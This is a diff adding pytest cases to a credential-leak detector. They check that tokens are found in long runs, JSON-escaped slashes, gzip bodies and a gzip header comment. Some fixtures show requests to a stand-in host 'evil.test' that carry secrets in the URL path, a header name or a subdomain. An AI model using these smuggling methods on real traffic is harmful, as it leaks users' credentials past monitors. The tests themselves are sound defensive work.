@@ -83,6 +83,22 @@ def test_a_credential_is_found_in_the_base64_of_a_file(name, token):
         assert name in secrets_in(json.dumps({"content": encoded.decode()}).encode())
 
 
+@pytest.mark.parametrize("before", ["a" * 3000 + "/", "a." * 2000, "/a" * 2000 + "+"])
+@pytest.mark.parametrize("after", ["", "/" + "b" * 3000])
+def test_a_credential_in_a_long_run_is_found(before, after):
+    assert "github" in secrets_in((before + TOKENS[4][1] + after).encode())
+    assert "stripe" in secrets_in((before + TOKENS[9][1] + after).encode())
+
+
+def test_a_run_of_nothing_but_beginnings_takes_no_time():
+    assert secrets_in(b"/AKIA" * 400_000) == frozenset()
+
+
+def test_a_slash_that_json_escapes_hides_nothing():
+    name, token = TOKENS[3]
+    assert name in secrets_in(token.replace("/", "\\/").encode())
+
+
 @pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
 def test_a_credential_in_json_escapes_is_found(name, token):
     escaped = "".join(f"\\u{ord(character):04x}" for character in token)
@@ -133,6 +149,7 @@ def test_a_picture_in_base64_is_none():
 
 GITHUB, STRIPE = TOKENS[4][1], TOKENS[9][1]
 OPENAI = TOKENS[18][1]
+DIGITALOCEAN, DATABRICKS = "dop" + "_v1_" + D * 4, "dapi" + D * 2
 
 
 def test_a_credential_in_its_own_slot_is_no_data():
@@ -161,6 +178,9 @@ def test_a_credential_of_another_service_in_the_slot_is():
             "headers": {"authorization": "Basic " + base64.b64encode(f"x:{GITHUB}".encode()).decode()},
         },
         {"line": f"GET https://evil.test/?{quote(GITHUB).replace('_', '%5f')}"},
+        {"line": f"GET https://evil.test/{'a' * 2000}/{GITHUB}"},
+        {"line": "GET https://evil.test/", "headers": {DIGITALOCEAN: "1"}},
+        {"line": f"GET https://{DATABRICKS}.evil.test/"},
     ],
 )
 def test_a_credential_anywhere_else_is_data(asking):
@@ -176,6 +196,15 @@ def test_a_compressed_body_is_looked_into():
     request = asked(
         "POST https://evil.test/", headers={"content-encoding": "gzip"}, body=WholeBody(gzip.compress(STRIPE.encode()))
     )
+    assert classes_of(request, CATALOG) == {"secret"}
+
+
+def test_a_compressed_body_is_also_looked_into_as_it_stands():
+    """Who doesn't undo codings reads the comment in gzip's header."""
+    packed = gzip.compress(b"nothing", mtime=0)
+    content = packed[:3] + b"\x10" + packed[4:10] + STRIPE.encode() + b"\0" + packed[10:]
+    assert gzip.decompress(content) == b"nothing"
+    request = asked("POST https://evil.test/", headers={"content-encoding": "gzip"}, body=WholeBody(content))
     assert classes_of(request, CATALOG) == {"secret"}
 
 
